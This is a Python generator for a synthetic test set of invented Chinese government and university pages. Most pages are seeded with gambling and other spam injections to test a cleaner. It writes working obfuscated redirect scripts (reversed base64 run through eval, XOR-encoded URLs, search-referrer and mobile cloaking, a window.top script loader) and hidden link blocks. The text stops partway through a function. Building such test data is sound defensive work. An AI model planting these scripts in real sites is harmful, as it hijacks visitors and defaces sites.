#!/usr/bin/env python3
"""Held-out v4 synthetic set: 40 gov/edu pages (28 hijacked, 12 clean of which 4 legit lottery/gambling-regulation
articles) in six page templates unlike those of synthetic-generator-v1..v3, with injection forms modelled on the real
cases of ../real-cases-v4 (each form cites the case it imitates). Brands, people, places and articles are invented.

    python make_set.py [OUT]     # default: ../synthetic-v4 ; fixed seed, byte-identical output on re-run

Written by the keeper of held-out v4, who did not read the cleaner, its word lists or tests. Standard library only.
"""
import base64
import html
import json
import os
import random
import sys

SEED = 20261204
E = html.escape
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(HERE), "synthetic-v4")

# ----------------------------------------------------------------------------------------------------------------
# invented names
SURN = "郑钱孙沈韩杨朱秦尤许何吕施张孔曹严华金魏陶姜戚谢邹喻柏水窦章云苏潘葛奚范彭郎鲁韦昌马苗凤花方俞任袁柳"
GIVEN = ["晓岚", "振华", "明远", "思琪", "海涛", "建国", "丽娟", "志强", "婉清", "立新", "嘉怡", "伟东", "秋菊",
         "浩然", "雅婷", "国庆", "春燕", "文博", "晨曦", "永刚"]
COUNTIES = ["青禾县", "梧桐县", "临溪县", "云岭县", "石门县", "北坪县", "双河县", "鹿鸣县", "安澜县", "翠屏县"]
CITIES = ["江陵市", "汀州市", "沅城市", "屏山市"]
BUREAUS = ["人民政府办公室", "教育局", "卫生健康局", "农业农村局", "应急管理局", "市场监督管理局", "民政局",
           "文化广电旅游体育局", "生态环境局", "自然资源局"]
UNIS = ["汀州师范学院", "沅城理工大学", "屏山职业技术学院", "江陵医学院", "鹿鸣农林学院", "云岭财经学院"]
SCHOOLS = ["外国语学院", "机械工程学院", "护理学院", "马克思主义学院", "信息工程学院", "经济管理学院"]


def person(rng):
    return rng.choice(SURN) + rng.choice(GIVEN)


def date(rng):
    y = rng.choice([2021, 2022, 2023, 2024, 2025])
    return y, rng.randint(1, 12), rng.randint(1, 28)


def iso(d):
    return "%04d-%02d-%02d" % d


def cn(d):
    return "%d年%d月%d日" % d


def md(d):
    return "%d月%d日" % d[1:]


# ----------------------------------------------------------------------------------------------------------------
# articles (written for this set); each returns (title, [paragraphs])
def a_spring_plough(org, d, rng):
    p = person(rng)
    return (f"{org}部署春耕备耕和农资保供工作", [
        f"{md(d)},{org}召开春耕备耕工作推进会,总结去年粮食生产情况,部署今年春耕备耕和农资保供重点任务。",
        f"会议通报了全县种子、化肥、农药等农资储备情况。截至目前,已储备各类化肥1.2万吨、良种860吨,能够满足春播需要。",
        f"{p}在讲话中要求,要压实粮食安全责任,抓好高标准农田建设和病虫害统防统治,组织农技人员深入田间地头开展技术指导。",
        "会议强调,要加强农资市场监管,严厉打击制售假冒伪劣农资行为,切实保障农民群众合法权益。"])


def a_elder_meal(org, d, rng):
    return (f"{org}社区老年助餐点正式运营", [
        f"{md(d)},由{org}统筹建设的社区老年助餐点正式投入运营,首批为辖区160余名老年人提供午餐和晚餐服务。",
        "助餐点设在社区综合服务中心一楼,配备适老化桌椅和无障碍通道,菜品每周更新,兼顾营养均衡与老年人口味。",
        "对80周岁以上、低保和特困老年人,助餐点给予每餐3至5元不等的补贴;行动不便的老人可由志愿者送餐上门。",
        "下一步,将根据运营情况逐步在其他社区推开,力争年底前实现城区社区助餐服务全覆盖。"])


def a_fire_check(org, d, rng):
    p = person(rng)
    return (f"{org}开展节前安全生产大检查", [
        f"为确保节日期间安全形势稳定,{md(d)}起,{org}组成4个检查组,对辖区重点企业、人员密集场所开展安全生产大检查。",
        "检查组重点查看了消防通道是否畅通、应急照明和灭火器材是否完好、危险化学品储存是否规范等情况,共检查单位52家,发现隐患37处。",
        f"对检查中发现的问题,检查组当场下达整改通知书,明确整改时限和责任人。{p}表示,将对整改情况开展“回头看”,确保隐患清零。"])


def a_river_clean(org, d, rng):
    return (f"{org}组织开展河道保洁志愿活动", [
        f"{md(d)}上午,{org}组织干部职工和志愿者80余人,在城区主要河段开展河道保洁志愿活动。",
        "志愿者们分成若干小组,沿河岸捡拾垃圾、清理漂浮物,并向沿河居民发放爱河护河倡议书。",
        "活动共清理垃圾约1.5吨。大家表示,将从自身做起,自觉维护河道环境,共同守护一河清水。"])


def a_teacher_training(org, d, rng):
    p = person(rng)
    return (f"{org}举办新入职教师岗前培训", [
        f"{md(d)},{org}新入职教师岗前培训班开班,今年新入职的62名教师参加培训。",
        f"培训为期五天,内容包括师德师风、教学设计、课堂管理和教育信息化应用等专题。{p}教授以“如何上好第一堂课”为题作了示范讲座。",
        "培训期间还安排了分组说课和教学观摩,帮助新教师尽快熟悉教学规范、适应岗位要求。"])


def a_lab_safety(org, d, rng):
    p = person(rng)
    return (f"{org}召开实验室安全工作会议", [
        f"{md(d)}下午,{org}召开实验室安全工作会议,各实验室负责人和安全员参加会议。",
        f"会议通报了近期实验室安全检查情况,对危化品台账管理、气瓶固定、废液收集等方面存在的问题进行了逐项分析。",
        f"{p}强调,实验室安全无小事,要落实“谁使用、谁负责”的原则,加强学生入室前安全培训,确保教学科研活动安全有序。"])


def a_job_fair(org, d, rng):
    return (f"{org}举办2025届毕业生秋季双选会", [
        f"{md(d)},{org}2025届毕业生秋季双选会在体育馆举行,来自省内外的210家用人单位提供就业岗位4300余个。",
        "双选会岗位涵盖智能制造、信息技术、医疗卫生、教育培训等领域,吸引了3000余名毕业生到场求职。",
        "学校就业指导中心在现场设置了简历诊断和政策咨询台,为毕业生提供一对一指导。据统计,当天初步达成就业意向900余人次。"])


def a_library_week(org, d, rng):
    p = person(rng)
    return (f"{org}第十届读书节开幕", [
        f"{md(d)},{org}第十届读书节在图书馆开幕,本届读书节以“阅读点亮青春”为主题。",
        f"开幕式上,{p}为“书香班级”颁奖,学生代表发出全民阅读倡议。",
        "读书节期间将陆续举办经典诵读比赛、好书推荐、古籍修复体验等12项活动,持续至下月底。"])


def a_flu_vaccine(org, d, rng):
    return (f"{org}启动秋冬季流感疫苗接种工作", [
        f"{md(d)}起,{org}在全县各接种门诊启动秋冬季流感疫苗接种工作。",
        "60岁及以上老年人、慢性病患者、医务人员和中小学生为重点接种人群,其中65岁以上老年人可免费接种一剂次。",
        "接种门诊提醒,接种前请携带身份证件,如实告知健康状况;接种后须在现场留观30分钟,无异常方可离开。"])


def a_tax_service(org, d, rng):
    p = person(rng)
    return (f"{org}推出企业开办“一窗通办”服务", [
        f"{md(d)},{org}政务服务中心推出企业开办“一窗通办”服务,营业执照、公章刻制、税务登记等事项实现一次提交、一窗办结。",
        f"据{p}介绍,改革后企业开办时间由原来的3个工作日压缩至0.5个工作日,申请材料减少40%。",
        "下一步,将继续推进更多高频事项集成办理,持续优化营商环境。"])


GOV_ART = [a_spring_plough, a_elder_meal, a_fire_check, a_river_clean, a_flu_vaccine, a_tax_service]
EDU_ART = [a_teacher_training, a_lab_safety, a_job_fair, a_library_week]


# legit articles about lotteries / gambling regulation
def l_lottery_audit(org, d, rng):
    return (f"{org}公布上年度彩票公益金使用情况", [
        f"根据彩票公益金管理有关规定,{org}现将上年度本级彩票公益金使用情况公告如下。",
        "上年度共安排福利彩票公益金1860万元,主要用于养老服务设施建设、困难儿童救助和残疾人康复项目;安排体育彩票公益金1240万元,用于全民健身场地设施建设和青少年体育活动。",
        "各项目资金均按规定实行专款专用,并接受审计部门监督。彩票公益金资助的项目均已按要求标注“彩票公益金资助”标识。",
        "欢迎社会各界对彩票公益金的使用情况进行监督。"])


def l_sports_lottery_rules(org, d, rng):
    p = person(rng)
    return (f"{org}开展彩票销售场所规范经营检查", [
        f"{md(d)},{org}联合市场监管部门对城区彩票销售场所开展规范经营专项检查。",
        "检查组重点检查了是否向未成年人销售彩票、是否存在以电话或网络方式违规销售彩票、是否公示中奖查询和兑奖流程等情况。",
        f"{p}表示,彩票是国家批准发行的公益彩票,任何单位和个人不得以任何形式代购、合买或私设赌局,对检查中发现的问题将依法依规处理。",
        "检查期间还向销售人员发放了《责任彩票工作手册》,提醒购彩者理性购彩、量力而行。"])


def l_campus_gambling(org, d, rng):
    return (f"{org}开展防范网络赌博专题教育", [
        f"{md(d)}晚,{org}邀请当地公安民警走进校园,开展防范网络赌博专题教育讲座,500余名学生参加。",
        "民警结合近年来学生参与网络赌博、出租出借银行卡被追责的真实案例,揭露了“先赢后输”“充值返利”等网络赌博惯用套路。",
        "讲座提醒同学们,不下载来路不明的应用程序,不点击陌生链接,不出租出借“两卡”,发现涉赌线索及时向公安机关举报。"])


def l_regulation_hearing(org, d, rng):
    return (f"{org}就娱乐场所管理办法修订征求意见", [
        f"{org}拟对本地娱乐场所管理办法进行修订,现面向社会公开征求意见,征求意见时间为30日。",
        "修订稿明确,娱乐场所内不得设置具有赌博功能的电子游戏设备,不得以现金、有价证券等作为奖品,不得为赌博活动提供条件。",
        "修订稿还增加了经营者对未成年人入场的核查义务,以及对违规经营行为的分级处罚条款。",
        "公众可通过电子邮件或信函方式反馈意见,来信请注明“管理办法意见”字样。"])


LEGIT_ART = [l_lottery_audit, l_sports_lottery_rules, l_campus_gambling, l_regulation_hearing]

# which bureau plausibly publishes which article (gov templates)
BUREAU_FOR = {a_spring_plough: ["农业农村局"], a_elder_meal: ["民政局"], a_fire_check: ["应急管理局", "市场监督管理局"],
              a_river_clean: ["生态环境局", "自然资源局"], a_flu_vaccine: ["卫生健康局"], a_tax_service: ["人民政府办公室", "市场监督管理局"],
              l_lottery_audit: ["民政局", "文化广电旅游体育局"], l_sports_lottery_rules: ["文化广电旅游体育局"],
              l_campus_gambling: ["教育局"], l_regulation_hearing: ["文化广电旅游体育局", "人民政府办公室"]}

# ----------------------------------------------------------------------------------------------------------------
# invented brands, several shapes (none seen in the dev sets)
BRANDS = [
    ("澜玥汇娱乐", "cjk"), ("凯旋门KX", "cjk_latin"), ("鎏金㊣国际", "cjk_symbol"), ("玖玺·娱乐城", "cjk_dot"),
    ("Ω欧罗巴体育", "greek_cjk"), ("锦鲤彩票网", "cjk"), ("ⓑⓞⓛⓐ电竞", "circled_latin"), ("ＶＩＰ８０８棋牌", "fullwidth"),
    ("【蓝鲸捕鱼】", "bracketed"), ("LHJ-8866老虎机", "initials_digits"), ("tyj88.cc天御", "domain_cjk"),
    ("青鸾国际", "cjk"), ("鼎盛88真人", "cjk_digits"), ("赤霄体育app", "cjk_latin"),
]
PORN = "午夜剧场高清免费_成人影音先锋_在线看片网址大全_深夜福利视频"
CLINIC = "博仁堂男科医院"
LOAN = "闪电借款秒到账_学生口子大全_征信花了也能下款"


def fake_host(rng):
    return "".join(rng.choice("abcdefghkmnpqrstwxyz") for _ in range(rng.randint(5, 8))) + rng.choice([".cc", ".vip", ".top", ".xyz", ".shop"])


# ----------------------------------------------------------------------------------------------------------------
# script builders (obfuscation kinds not used by the dev generators)
def rev_b64_parts(js, rng):
    """base64 of the code, reversed, split into quoted parts (modelled on rc4-011, maccms10#1158)."""
    s = base64.b64encode(js.encode()).decode()[::-1]
    parts, i = [], 0
    while i < len(s):
        n = rng.randint(8, 14)
        parts.append(s[i:i + n])
        i += n
    return " + ".join("'%s'" % p for p in parts)


def xor_codes(s, key):
    return ",".join(str(ord(ch) ^ key) for ch in s)


def uesc(s):
    return "".join("\\u%04x" % ord(ch) for ch in s)


def hexname(rng, n=32):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def s_banner_revb64(c, rng):
    # tampered-library banner + reversed split base64 + eval, gated on a search-engine referrer (rc4-011)
    target = "https://" + c["host"] + "/?from=" + c["key"]
    payload = ("var r=document.referrer;if(/(baidu|sogou|so\\.com|sm\\.cn|bing)\\./i.test(r)){location.replace('%s')}" % target)
    return ("<script>/*! jQuery v3.6.0 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n"
            "var q = %s;\n"
            "eval(decodeURIComponent(escape(atob(q.split('').reverse().join('')))));</script>" % rev_b64_parts(payload, rng)), []


def s_domready_top(c, rng):
    # hashed global names + DOM-ready helper + script injected into window.top, mobile UA only (rc4-012, baiduShare#6)
    g1, g2, f1, f2, sid = (hexname(rng) for _ in range(5))
    return ("<script>;;(function(){window.v%s=\"m\";window.v%s=\"%s\"})();\n"
            "var f%s=function(){var c=[],d=!1;function b(){if(!d){d=!0;for(var a=0;a<c.length;a++)c[a]()}}"
            "document.addEventListener(\"DOMContentLoaded\",b,!1);window.addEventListener(\"load\",b,!1);return function(a){d?a():c.push(a)}}();\n"
            "function f%s(){try{if(!/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent))return;var t=window.top.document;"
            "if(!t.getElementById(\"%s\")){var s=t.createElement(\"script\");s.id=\"%s\";"
            "s.src=\"https://\"+window.v%s+\"/j/?t=\"+window.v%s;t.getElementsByTagName(\"head\")[0].appendChild(s)}}catch(e){}}"
            "f%s(f%s);</script>" % (g1, g2, c["host"], f1, f2, sid, sid, g2, g1, f1, f2)), [c["host"]]


def s_engine_table(c, rng):
    # search-engine table + query extraction; visitors from an engine get the brand title and a redirect (rc4-014, manul#91)
    return ("<script type=\"text/javascript\">\nSEQ = {};\nSEQ.list = [\n"
            "\t[/baidu\\./i, /(\\?|&)(wd|word)=(.*?)(&|$)/i, 3],\n\t[/sogou\\./i, /(\\?|&)query=(.*?)(&|$)/i, 2],\n"
            "\t[/so\\.com/i, /(\\?|&)q=(.*?)(&|$)/i, 2],\n\t[/sm\\.cn/i, /(\\?|&)q=(.*?)(&|$)/i, 2],\n"
            "\t[/bing\\.com/i, /(\\?|&)q=(.*?)(&|$)/i, 2]\n];\n"
            "SEQ.hit = function(ref) {\n\tfor (var i = 0; i < SEQ.list.length; i++) {\n\t\tvar e = SEQ.list[i];\n"
            "\t\tif (ref.match(e[0])) { var m = ref.match(e[1]); return m ? m[e[2]] : ''; }\n\t}\n\treturn null;\n};\n"
            "if (SEQ.hit(document.referrer) !== null) { document.title = '%s'; setTimeout(function(){ location.href = 'https://%s/'; }, 1200); }\n"
            "</script>" % (c["brand"], c["host"])), [c["brand"], c["host"]]


def s_coarse_pointer_xor(c, rng):
    # device gate on touch capability; URL from an XOR'd code list via String.fromCodePoint (new obfuscation)
    key = rng.randint(11, 97)
    url = "https://" + c["host"] + "/m/"
    return ("<script>(function(k,a){if(!(window.matchMedia&&matchMedia('(pointer:coarse)').matches)&&!(navigator.maxTouchPoints>1))return;"
            "location.replace(String.fromCodePoint.apply(null,a.map(function(x){return x^k})))})(%d,[%s]);</script>"
            % (key, xor_codes(url, key))), []


def s_night_counter(c, rng):
    # hour array + visit counter in localStorage + mobile + search referrer, config as \\u-escaped JSON
    # (behaviour described in the maccms10#985 thread; that thread's code is not used)
    hours = sorted(rng.sample(range(24), 8))
    cfg = json.dumps({"u": "https://" + c["host"] + "/", "h": hours, "n": 3}, separators=(",", ":"))
    return ("<script>(function(){var c=JSON.parse(\"%s\");var ua=navigator.userAgent,r=document.referrer;"
            "if(!/Mobile|Android|iPhone/i.test(ua)||!/baidu|sogou|sm\\.cn|so\\.com/i.test(r))return;"
            "var k='_vc',v=+(localStorage.getItem(k)||0)+1;localStorage.setItem(k,v);"
            "if(v>=c.n&&c.h.indexOf(new Date().getHours())>-1){location.href=c.u}})();</script>" % uesc(cfg)), []


def s_offscreen_writer(c, rng):
    # link block + script that writes an off-screen rule for it into <head> (rc4-013, mdpabel write-up)
    bid = "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789") for _ in range(20))
    fn = "".join(rng.choice("abcdefghijkmnpqrstuvwxyzABCDEFGH") for _ in range(12))
    links = "".join('<a href="https://%s/%d.html">%s</a>' % (c["host"], i, E(t)) for i, t in enumerate(c["linktexts"]))
    return ('<div id="%s"><p>%s</p></div><script type="text/javascript">function %s(){var h=document.getElementsByTagName(\'he\'+\'ad\')[0];'
            'var r=\'#%s{position:absolute;left:-%dpx;top:0;overflow:hidden;width:1px;height:1px;}\';'
            'var s=document.createElement(\'st\'+\'yle\');s.appendChild(document.createTextNode(r));h.appendChild(s)}%s();</script>'
            % (bid, links, fn, bid, rng.randint(40000, 990000), fn)), list(c["linktexts"])


SCRIPTS = {"script_revb64_banner": s_banner_revb64, "script_domready_top_mobile": s_domready_top,
           "script_engine_table_title": s_engine_table, "script_coarse_pointer_xor": s_coarse_pointer_xor,
           "script_night_visit_counter": s_night_counter, "script_offscreen_css_writer": s_offscreen_writer}


# hidden blocks of several kinds (markup only)
def h_hidden_attr(c, rng):
    return '<div hidden>%s</div>' % "".join('<a href="https://%s/">%s</a>' % (c["host"], E(t)) for t in c["linktexts"]), list(c["linktexts"])


def h_template_tag(c, rng):
    return '<template id="tpl-%d">%s</template>' % (rng.randint(100, 999), "".join('<a href="https://%s/">%s</a>' % (c["host"], E(t)) for t in c["linktexts"])), list(c["linktexts"])


def h_clip_path(c, rng):
    return ('<div style="position:absolute;clip-path:inset(50%%);width:1px;height:1px;white-space:nowrap">%s</div>'
            % "".join('<a href="https://%s/">%s</a> ' % (c["host"], E(t)) for t in c["linktexts"])), list(c["linktexts"])


def h_scale_zero(c, rng):
    return ('<ul style="transform:scale(0);height:0;margin:0">%s</ul>'
            % "".join('<li><a href="https://%s/">%s</a></li>' % (c["host"], E(t)) for t in c["linktexts"])), list(c["linktexts"])


def h_same_color_small(c, rng):
    return ('<p style="color:#ffffff;background:#ffffff;font-size:2px;line-height:2px">%s</p>'
            % "、".join(E(t) for t in c["linktexts"])), list(c["linktexts"])


HIDDEN = {"hidden_attribute_block": h_hidden_attr, "template_tag_links": h_template_tag, "clip_path_inset_block": h_clip_path,
          "scale_zero_list": h_scale_zero, "same_colour_tiny_text": h_same_color_small}


# ----------------------------------------------------------------------------------------------------------------
# six page templates. P: dict with head_extra, top, crumb, h1, meta (list of (label, value)), body_html, after, foot
def w1_hanweb(P):
    meta = "&nbsp;&nbsp;".join("%s:%s" % (E(k), E(v)) for k, v in P["meta"])
    return ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">\n'
            '<html xmlns="http://www.w3.org/1999/xhtml">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />\n'
            '<title>%s</title>\n<meta name="SiteName" content="%s" />\n<meta name="ColumnName" content="部门动态" />\n%s</head>\n<body>\n%s'
            '<div class="main-wrap"><div class="position">您当前的位置:%s</div>\n'
            '<div class="article"><div class="bt-title"><!--<$[标题名称]>begin-->%s<!--<$[标题名称]>end--></div>\n'
            '<div class="bt-info">%s&nbsp;&nbsp;【字体:<a href="javascript:void(0)">大</a> <a href="javascript:void(0)">中</a> <a href="javascript:void(0)">小</a>】</div>\n'
            '<div id="zoom"><!--<$[信息内容]>begin-->%s<!--<$[信息内容]>end--></div>\n%s</div></div>\n'
            '<div class="footer">%s</div>\n%s</body>\n</html>\n'
            % (E(P["page_title"]), E(P["site"]), P["head_extra"], P["top"], E(P["crumb"]), E(P["h1"]), meta, P["body_html"], P["after"],
               E(P["foot"]), P["tail"]))


def w2_trs_wcm(P):
    meta = "".join('<span class="%s">%s:%s</span>' % (cls, E(k), E(v)) for (k, v), cls in zip(P["meta"], ["fbsj", "ly", "zz", "llcs"]))
    return ('<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n<meta charset="utf-8">\n<title>%s</title>\n'
            '<meta name="ArticleTitle" content="%s">\n<meta name="PubDate" content="%s">\n%s</head>\n<body>\n%s'
            '<div class="w1200"><div class="dqwz">当前位置:%s</div>\n<div class="xl-main"><h2 class="xl-tit">%s</h2><div class="xl-info">%s</div>\n'
            '<div class="view TRS_UEDITOR trs_paper_default trs_web">%s</div>\n%s</div></div>\n'
            '<div class="foot"><p>%s</p><p>主办单位:%s</p></div>\n%s</body>\n</html>\n'
            % (E(P["page_title"]), E(P["h1"]), E(P["pubdate"]), P["head_extra"], P["top"], E(P["crumb"]), E(P["h1"]), meta,
               P["body_html"], P["after"], E(P["foot"]), E(P["site"]), P["tail"]))


def w3_gb_divsoup(P):
    meta = "&nbsp;&nbsp;&nbsp;".join("%s:%s" % (E(k), E(v)) for k, v in P["meta"])
    body = "<br>\n".join('<font style="font-size:14px">&nbsp;&nbsp;&nbsp;&nbsp;%s</font>' % E(p) for p in P["paras"])
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=gb2312">\n<title>%s</title>\n%s</head>\n'
            '<body style="margin:0;background:#f2f2f2">\n%s<div style="width:960px;margin:0 auto;background:#fff">'
            '<div style="height:28px;line-height:28px;font-size:12px;color:#666">%s</div>\n'
            '<div style="text-align:center;font-size:20px;font-weight:bold;color:#c00;padding:12px 0">%s</div>\n'
            '<div style="text-align:center;font-size:12px;color:#999;border-bottom:1px dashed #ccc;padding-bottom:6px">%s</div>\n'
            '<div style="padding:10px 30px;line-height:2">%s%s</div>\n%s'
            '<div style="text-align:right;padding:0 30px 10px"><a href="javascript:window.print()">【打印本页】</a> <a href="javascript:window.close()">【关闭窗口】</a></div></div>\n'
            '<div style="text-align:center;font-size:12px;color:#999">%s</div>\n%s</body>\n</html>\n'
            % (E(P["page_title"]), P["head_extra"], P["top"], E(P["crumb"]), E(P["h1"]), meta, body, P["inline_after_body"], P["after"],
               E(P["foot"]), P["tail"]))


def w4_wechat_repost(P):
    sec = "\n".join('<section style="margin-bottom:16px;"><span style="font-size:15px;letter-spacing:1px;">%s</span></section>' % E(p) for p in P["paras"])
    meta = "".join('<em class="rich_media_meta rich_media_meta_text">%s%s</em>' % ((E(k) + ":") if k else "", E(v)) for k, v in P["meta"])
    return ('<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n<meta name="viewport" content="width=device-width,initial-scale=1">\n'
            '<title>%s</title>\n<meta property="og:title" content="%s">\n%s</head>\n<body id="activity-detail" class="zh_CN">\n%s'
            '<div class="rich_media"><div class="crumb-lite">%s</div><h1 class="rich_media_title" id="activity-name">%s</h1>\n'
            '<div class="rich_media_meta_list">%s</div>\n<div class="rich_media_content" id="js_content" style="visibility:visible;">%s%s</div>\n%s'
            '<div class="rich_media_tool"><span>阅读原文</span></div></div>\n<p class="copyright">%s</p>\n%s</body>\n</html>\n'
            % (E(P["page_title"]), E(P["og_title"]), P["head_extra"], P["top"], E(P["crumb"]), E(P["h1"]), meta, sec, P["inline_after_body"],
               P["after"], E(P["foot"]), P["tail"]))


def w5_dedecms(P):
    info = "".join("<small>%s:</small>%s " % (E(k), E(v)) for k, v in P["meta"])
    return ('<!DOCTYPE html>\n<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />\n<title>%s</title>\n'
            '<meta name="keywords" content="%s" />\n<meta name="description" content="%s" />\n%s</head>\n<body class="articleview">\n%s'
            '<div class="header"><div class="top w960 center"><div class="title"><h1><a href="/">%s</a></h1></div></div></div>\n'
            '<div class="w960 center clear mt1"><div class="pleft"><div class="place"><strong>当前位置:</strong> %s</div>\n'
            '<div class="viewbox"><div class="title"><h2>%s</h2></div><div class="info">%s</div>\n'
            '<div class="content"><table width="100%%"><tr><td>%s</td></tr></table></div>\n%s'
            '<div class="boxoff"><strong>------分隔线----------------------------</strong></div></div></div></div>\n'
            '<div class="footer w960 center mt1 clear"><div class="footer_body"><p class="powered">%s</p></div></div>\n%s</body>\n</html>\n'
            % (E(P["page_title"]), E(P["keywords"]), E(P["description"]), P["head_extra"], P["top"], E(P["site"]), E(P["crumb"]), E(P["h1"]), info,
               P["body_html"], P["after"], E(P["foot"]), P["tail"]))


def w6_discuz_portal(P):
    info = " ".join("%s: %s" % (E(k), E(v)) for k, v in P["meta"])
    return ('<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8" />\n<title>%s - %s</title>\n%s</head>\n<body id="nv_portal" class="pg_view">\n%s'
            '<div id="hd"><div class="wp"><div class="hdc cl"><h2><a href="portal.php">%s</a></h2></div></div></div>\n'
            '<div id="pt" class="bm cl"><div class="z">%s</div></div>\n'
            '<div id="ct" class="ct2 wp cl"><div class="mn"><div class="bm vw"><div class="h hm"><h1 class="ph">%s</h1><p class="xg1">%s</p></div>\n'
            '<div class="d"><table cellpadding="0" cellspacing="0" class="vwtb"><tr><td id="article_content">%s</td></tr></table></div>\n%s'
            '</div></div></div>\n<div id="ft" class="wp cl"><p>%s</p></div>\n%s</body>\n</html>\n'
            % (E(P["page_title"]), E(P["site"]), P["head_extra"], P["top"], E(P["site"]), E(P["crumb"]), E(P["h1"]), info, P["body_html"],
               P["after"], E(P["foot"]), P["tail"]))


TEMPLATES = [("W1", w1_hanweb, "gov"), ("W2", w2_trs_wcm, "gov"), ("W3", w3_gb_divsoup, "gov"),
             ("W4", w4_wechat_repost, "edu"), ("W5", w5_dedecms, "edu"), ("W6", w6_discuz_portal, "gov")]

# ----------------------------------------------------------------------------------------------------------------
# injection plan: 28 hijacked pages, each with one markup/text form and (for most) one script or hidden block.
# text forms (model in real-cases-v4):
#   kw_line (rc4-001), org_substitution (rc4-006/008/015), mid_sentence_pair (rc4-016), site_name_brand (rc4-017),
#   crumb_brand (rc4-007), symbol_stuffing (rc4-009), promo_wrap (rc4-003), porn_chain_header (rc4-018/019),
#   place_suffix_phrase (rc4-005), clinic_promo (rc4-020, medical), loan_keyword_block (non-gambling, hidden),
#   byline_brand (来源/作者 spliced, rc4-001 family of spliced fields), h1_brand_prefix (rc4-006 headline prefix)
TEXT_FORMS = ["kw_line", "org_substitution", "mid_sentence_pair", "site_name_brand", "crumb_brand", "symbol_stuffing",
              "promo_wrap", "porn_chain_header", "place_suffix_phrase", "clinic_promo", "byline_brand", "h1_brand_prefix",
              "loan_keyword_block", "none"]
PLAN = [  # (text form, extra form or None)
    ("kw_line", "script_revb64_banner"), ("org_substitution", None), ("mid_sentence_pair", "hidden_attribute_block"),
    ("site_name_brand", "script_domready_top_mobile"), ("crumb_brand", "template_tag_links"), ("symbol_stuffing", None),
    ("promo_wrap", "script_engine_table_title"), ("porn_chain_header", "clip_path_inset_block"),
    ("place_suffix_phrase", "script_coarse_pointer_xor"), ("clinic_promo", None), ("byline_brand", "scale_zero_list"),
    ("h1_brand_prefix", "script_night_visit_counter"), ("loan_keyword_block", "script_offscreen_css_writer"),
    ("none", "script_revb64_banner"), ("none", "script_engine_table_title"), ("none", "same_colour_tiny_text"),
    ("org_substitution", "script_coarse_pointer_xor"), ("kw_line", "same_colour_tiny_text"), ("byline_brand", None),
    ("site_name_brand", "script_offscreen_css_writer"), ("none", "script_domready_top_mobile"), ("symbol_stuffing", "hidden_attribute_block"),
    ("crumb_brand", "script_night_visit_counter"), ("porn_chain_header", None), ("mid_sentence_pair", "template_tag_links"),
    ("h1_brand_prefix", "clip_path_inset_block"), ("none", "script_offscreen_css_writer"), ("promo_wrap", "scale_zero_list"),
]
assert len(PLAN) == 28


def build_case(i, rng, tpl, hijack, legit_fn=None):
    tname, tfun, tkind = tpl
    d = date(rng)
    fn = legit_fn or rng.choice(GOV_ART if tkind == "gov" else EDU_ART)
    if tkind == "gov":
        county = rng.choice(COUNTIES)
        org = county + rng.choice(BUREAU_FOR[fn])
        site = org
        place = county
    else:
        uni = rng.choice(UNIS)
        org = uni + rng.choice(SCHOOLS) if rng.random() < 0.5 else uni
        site = uni
        place = uni
    if legit_fn is l_lottery_audit and tkind != "gov":
        org = site = place = rng.choice(COUNTIES) + "民政局"
    title, paras = fn(org, d, rng)
    source = org if rng.random() < 0.7 else None
    author = person(rng) if rng.random() < 0.5 else None
    clean_paras = list(paras)
    P = {"site": site, "page_title": title + "_" + site, "h1": title, "crumb": "首页 > 新闻动态 > 正文",
         "head_extra": "", "top": "", "after": "", "tail": "", "inline_after_body": "", "foot": "版权所有:" + site,
         "pubdate": iso(d) + " 09:%02d" % rng.randint(0, 59), "og_title": title, "keywords": title, "description": clean_paras[0][:60]}
    meta = [("发布时间", iso(d))]
    if source:
        meta.append(("来源", source))
    if author:
        meta.append(("作者", author))
    meta.append(("浏览次数", str(rng.randint(30, 2000))))
    injections, spam = [], []
    brand, shape = (None, None)
    text_form, extra = ("none", None)
    shown_paras = list(clean_paras)
    if hijack:
        text_form, extra = PLAN[i]
        brand, shape = BRANDS[i % len(BRANDS)]
        host = fake_host(rng)
        c = {"brand": brand, "host": host, "key": "%d" % rng.randint(1000, 9999),
             "linktexts": [brand + "官网", brand + "注册送彩金", brand + "手机版下载"]}
        if text_form == "kw_line":  # keyword line above the body
            kw = ",".join([brand, brand + "官网", brand + "app", brand + "注册", brand + "网页版", brand + "登录入口"])
            shown_paras = [kw] + shown_paras
            spam += [brand + "官网", brand + "登录入口"]
        elif text_form == "org_substitution":  # brand replaces the organisation's name in body and title
            shown_paras = [p.replace(org, brand) for p in shown_paras]
            clean_paras = [p.replace(org, "") for p in clean_paras]
            if org in title:
                P["h1"] = title.replace(org, brand)
                P["page_title"] = P["h1"] + "_" + brand
                P["og_title"] = P["h1"]
                title = title.replace(org, "")
            spam.append(brand)
        elif text_form == "mid_sentence_pair":
            pair = brand + "," + brand + "注册"
            j = 1 if len(shown_paras) > 1 else 0
            s = shown_paras[j]
            k = s.find(",") + 1 or len(s) // 2
            shown_paras[j] = s[:k] + pair + s[k:]
            spam.append(pair)
        elif text_form == "site_name_brand":
            P["page_title"] = title + "-" + brand + "欢迎您"
            P["top"] = '<div class="sitebar"><span>%s欢迎您</span></div>\n' % E(brand)
            P["foot"] = brand + "欢迎您 版权所有"
            spam.append(brand + "欢迎您")
        elif text_form == "crumb_brand":
            P["crumb"] = "首页 > %s > 正文" % brand
            P["page_title"] = title + "-" + brand
            spam.append(brand)
        elif text_form == "symbol_stuffing":
            sym = rng.choice(["★", "☆", "◆"])
            out = []
            for p in shown_paras:
                q = ""
                for ch in p:
                    q += ch
                    if ch in ",、" and rng.random() < 0.6:
                        q += sym * rng.randint(1, 3)
                out.append(q)
